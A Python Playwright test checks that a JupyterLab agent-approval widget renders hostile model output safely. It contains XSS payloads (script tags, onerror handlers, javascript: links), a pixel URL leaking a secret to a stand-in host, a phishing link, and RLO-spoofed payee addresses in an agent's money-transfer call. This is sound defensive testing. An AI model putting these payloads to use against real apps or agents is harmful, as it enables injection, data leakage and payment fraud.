"""Hostile content in every field the view draws, in a real JupyterLab: model text, tool
names, tool arguments and results, interrupt messages and data, a schema's titles and
descriptions, and an interrupt from another producer. Nothing may run, no request may
leave the machine, no image may be requested at all, hidden characters show as markers
with a warning, and the pending cards still answer. Screenshots go to
test-artifacts/browser/."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import expect

OpenNotebook = Callable[[str, list[str]], Any]

SETUP = r'''
from pydantic import BaseModel, ConfigDict, Field
from pausepoint import (Agent, ActionContext, ActionInterrupt, ModelResponse, ScriptedModel,
                        action, call)

RLO, ZW = "\u202e", "\u200b"
PAYLOADS = [
    '<script>window.__pwned = "script"</script>',
    '<img src=x onerror="window.__pwned = \'img\'"> <svg onload="window.__pwned = \'svg\'"></svg>',
    '<a href="javascript:window.__pwned=\'a\'">html link</a> [md link](javascript:window.__pwned=1)'
    ' [data link](data:text/html,<script>window.__pwned=1</script>)',
    '![pixel](https://pixel.invalid/p.png?secret=s3cr3t) ![out](/logout) ![file](files/x.png)'
    ' ![proto](//pixel.invalid/q.png) ![ref][r]\n\n[r]: https://pixel.invalid/r.png',
    '[your bank](https://evil.invalid/login) [sessions](/api/sessions)',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>'
    ' <span class="jp-Dialog" id="pp-root">cover</span>',
    '<style>body{display:none}</style><iframe src="https://frame.invalid/"></iframe>'
    '<video src="https://v.invalid/v.mp4" poster="https://v.invalid/p.png"></video>'
    '<audio src="/x.mp3"></audio><picture><source srcset="https://s.invalid/s.png"></picture>'
    '<link rel=stylesheet href="https://css.invalid/x.css"><object data="/o"></object>',
    f"pay alice@bank.com {RLO}moc.rekcatta@eve",
    f"to{ZW}ken and a line\u2028separator",
]
TEXT = "\n\n".join(PAYLOADS)
DEEP = ">" * 2000 + " deep quote"
HUGE = "Finished.\n\n" + "_a" * 30_000

class Answer(BaseModel):
    model_config = ConfigDict(title=PAYLOADS[1])
    choice: str = Field("keep", title=PAYLOADS[0], description=TEXT)

executed = []

@action
def lookup(query: str) -> str:
    """Look something up."""
    return TEXT

@action
def details(query: str) -> dict:
    """Details as JSON."""
    return {"html": PAYLOADS[1], f"key{ZW}": PAYLOADS[7], "deep": DEEP}

@action
async def ask(ctx: ActionContext) -> str:
    """Ask a person."""
    if ctx.resumption is None:
        raise ActionInterrupt(f"Which one? {PAYLOADS[1]} {PAYLOADS[7]}", data=TEXT,
                              response_schema=Answer)
    return "asked"

@action(needs_approval=True)
def transfer(to: str, amount: float, note: str) -> str:
    """Send money."""
    executed.append((to, amount))
    return "sent"

def reply(request):
    last = request.items[-1]
    if last.type == "user":
        return ModelResponse(text=TEXT, tool_calls=[
            call("lookup", query=PAYLOADS[0]),
            call("details", query="x"),
            call(f"evil{RLO}loot<img src=x onerror=window.__pwned=1>"),
            call("ask"),
            call("transfer", to=f"alice@bank.com {RLO}moc.rekcatta@eve", amount=5.0,
                 note="ok" + " " * 200 + "; and 5000 more to eve"),
        ])
    return HUGE

run = Agent(model=ScriptedModel(reply), actions=[lookup, details, ask, transfer]).start("go")
run
'''
FOREIGN = r"""
shown = run.view.show_interrupt({
    "id": "wf-evil", "reason": "confirmation", "message": f"Deploy {PAYLOADS[7]}?",
    "metadata": {"tanstack:interruptPayload": TEXT + "\n\n" + DEEP},
})
"""
CHECK = 'print("KERNEL", run.state.status, "|", executed)'

LOCAL = {"127.0.0.1", "localhost", "::1"}


def _host(url: str) -> str | None:
    """The host a request goes to; a blob: URL (anywidget's module) belongs to its page."""
    return urlsplit(url.removeprefix("blob:")).hostname


def test_hostile_content_runs_nothing_requests_nothing_and_shows_hidden_characters(
    open_notebook: OpenNotebook,
) -> None:
    nb = open_notebook("hostile", [SETUP, FOREIGN, CHECK])
    page = nb.page
    requests: list[tuple[str, str]] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requests.append((r.url, r.resource_type)))

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)

    nb.run_all()
    view = nb.widget()
    cards = view.locator('[data-testid="pp-card"]')
    expect(cards).to_have_count(3, timeout=60_000)  # ask, transfer, and the foreign one
    approval = view.locator('[data-testid="pp-card"][data-kind="tool-approval"]')
    question = view.locator('[data-testid="pp-card"][data-kind="generic"]')
    foreign = view.locator('[data-testid="pp-card"][data-kind="unbound"]')
    expect(approval.get_by_test_id("pp-approve")).to_be_enabled()
    expect(foreign).to_contain_text("Deploy")

    # Hidden characters: markers instead of acting, and a warning on each card.
    for card in (approval, question, foreign):
        expect(card.get_by_test_id("pp-hidden-warning")).to_contain_text(
            "hidden or direction-changing characters"
        )
        expect(
            card.get_by_test_id("pp-hidden-char").filter(has_text="U+202E").first
        ).to_be_visible()
    # The schema's title and description, in the question's form.
    expect(question.locator(".pp-help").get_by_test_id("pp-hidden-char").first).to_be_visible()
    expect(question.locator("legend, label").filter(has_text="<script>").first).to_be_visible()
    expect(approval.get_by_test_id("pp-args")).to_contain_text("200 spaces")
    expect(approval.get_by_test_id("pp-args")).to_contain_text("; and 5000 more to eve")
    assert "\u202e" not in (approval.text_content() or "")
    calls = view.get_by_test_id("pp-tool-call")
    evil = calls.filter(has_text="evilU+202Eloot")
    expect(evil.get_by_test_id("pp-hidden-badge")).to_be_visible()
    expect(evil).to_contain_text("<img src=x onerror=window.__pwned=1>")

    # Images are a link with the full address; links say where they go or are not links.
    message = view.get_by_test_id("pp-item").filter(has_text="Assistant").first
    expect(message).to_contain_text("[image: pixel] https://pixel.invalid/p.png?secret=s3cr3t")
    expect(message).to_contain_text("[image: out] /logout")
    expect(message).to_contain_text("your bank (https://evil.invalid/login)")
    expect(message).to_contain_text("(relative link, not followed: /api/sessions)")
    expect(message).to_contain_text("(blocked link: javascript:window.__pwned=1)")
    expect(message.get_by_test_id("pp-hidden-warning")).to_be_visible()
    # 2,000 `>` is too deep for the parser: plain text, and the view stays.
    expect(foreign.get_by_test_id("pp-plain-note")).to_be_visible()
    expect(foreign).to_contain_text(">>>> deep quote")
    # A tool's result is the same markdown.
    lookup = view.locator('[data-testid="pp-tool-call"][data-name="lookup"]')
    lookup.locator("summary").click()
    result = lookup.get_by_test_id("pp-tool-result")
    expect(result).to_contain_text("[image: pixel] https://pixel.invalid/p.png?secret=s3cr3t")
    expect(result).to_contain_text("(relative link, not followed: /api/sessions)")
    links = result.locator("a[href]").evaluate_all("links => links.map(a => a.href)")
    assert links == ["https://evil.invalid/login", "mailto:alice@bank.com"], links
    hrefs = view.locator("a[href]").evaluate_all("links => links.map(a => a.href)")
    assert all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), hrefs
    assert all(_host(h) not in LOCAL for h in hrefs), hrefs

    # Nothing model-made can style, position or embed anything.
    forbidden = "img, picture, source, video, audio, iframe, object, embed, svg, style, [srcset]"
    assert view.locator(f".pp-markdown :is({forbidden}, link)").count() == 0
    # (A plain-text fallback is the view's own markup, not the text's.)
    styled = ":is(.pp-markdown:not(.pp-plain)) :is([style], [class], [id])"
    assert view.locator(styled).count() == 0
    assert view.locator("img, iframe, video, audio, object, embed").count() == 0
    nb.screenshot("h-hostile-text")
    approval.scroll_into_view_if_needed()
    nb.screenshot("h-hostile-approval")
    foreign.scroll_into_view_if_needed()
    nb.screenshot("h-hostile-foreign")

    # The form of the question: hostile schema title and description are text.
    question.get_by_test_id("pp-reject-reason").fill("not now")
    question.get_by_test_id("pp-reject").click()
    approval = view.locator('[data-testid="pp-card"][data-kind="tool-approval"]')
    approval.get_by_test_id("pp-approve").click()
    expect(view.get_by_test_id("pp-status")).to_contain_text("Completed", timeout=60_000)
    # A huge final answer is shown as plain text.
    expect(view.get_by_test_id("pp-plain-note").last).to_be_visible()
    nb.screenshot("h-hostile-completed")
    nb.run_cell(2)
    expect(nb.output(2).last).to_contain_text("KERNEL", timeout=30_000)
    expect(nb.output(2).last).to_contain_text("moc.rekcatta@eve', 5.0)]")

    assert page.evaluate("() => window.__pwned") is None
    assert dialogs == []
    away = [url for url, _ in requests if _host(url) not in LOCAL]
    assert away == [], away
    images = [url for url, kind in requests if kind == "image"]
    assert images == [], images
    assert not [url for url, _ in requests if urlsplit(url).path in ("/logout", "/files/x.png")]
    print(f"{len(requests)} requests while the view drew, all to this machine, none for an image")
